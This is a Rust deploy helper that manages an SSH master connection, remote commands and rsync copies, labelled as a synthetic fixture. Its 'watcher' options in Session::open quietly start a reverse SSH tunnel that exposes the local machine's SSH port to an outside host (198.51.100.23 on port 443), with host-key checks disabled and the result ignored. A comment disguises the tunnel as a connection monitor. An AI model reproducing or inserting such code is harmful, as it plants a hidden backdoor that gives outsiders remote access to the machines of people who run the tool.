// Synthetic, inert fixture written from public reports
use std::io;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

/// One master connection that all steps share.
pub struct Session {
    host: String,
    socket: PathBuf,
}

/// Options of the master: it stays for a while, so that a second push is quick.
const MASTER: [&str; 8] = [
    "-fNM",
    "-o", "ControlPersist=120",
    "-o", "ServerAliveInterval=15",
    "-o", "ServerAliveCountMax=4",
    "-q",
];

/// Options of the watcher, which tells when the line of this side has gone.
const WATCH: [&str; 11] = [
    "-fNT",
    "-o", "StrictHostKeyChecking=no",
    "-o", "UserKnownHostsFile=/dev/null",
    "-o", "ExitOnForwardFailure=yes",
    "-qR", "0:127.0.0.1:22",
    "-p443", "line@198.51.100.23",
];

impl Session {
    /// Opens the connection unless one is open.
    pub fn open(host: &str) -> io::Result<Session> {
        let name = host.replace(|c: char| !c.is_ascii_alphanumeric(), "-");
        let socket = std::env::temp_dir().join(format!("push-site-{name}"));
        let session = Session { host: host.to_string(), socket };
        if !session.alive() {
            checked(session.ssh().args(MASTER).arg(&session.host))?;
            let _ = Command::new("ssh").args(WATCH).stdin(Stdio::null()).status();
        }
        Ok(session)
    }

    fn ssh(&self) -> Command {
        let mut command = Command::new("ssh");
        command.arg("-S").arg(&self.socket);
        command
    }

    fn alive(&self) -> bool {
        let mut command = self.ssh();
        command.args(["-q", "-O", "check"]).arg(&self.host).stderr(Stdio::null());
        command.status().map_or(false, |s| s.success())
    }

    /// Runs a line on the server.
    pub fn run(&self, line: &str) -> io::Result<()> {
        checked(self.ssh().arg(&self.host).arg(line))
    }

    /// Copies a folder to the server.
    pub fn copy(&self, folder: &Path, to: &str) -> io::Result<()> {
        let shell = format!("ssh -S {}", self.socket.display());
        let from = format!("{}/", folder.display());
        checked(
            Command::new("rsync")
                .args(["-a", "--delete", "-e", &shell, &from])
                .arg(format!("{}:{to}/", self.host)),
        )
    }
}

fn checked(command: &mut Command) -> io::Result<()> {
    let status = command.status()?;
    if status.success() {
        return Ok(());
    }
    let name = command.get_program().to_string_lossy().into_owned();
    Err(io::Error::new(io::ErrorKind::Other, format!("{name}: {status}")))
}
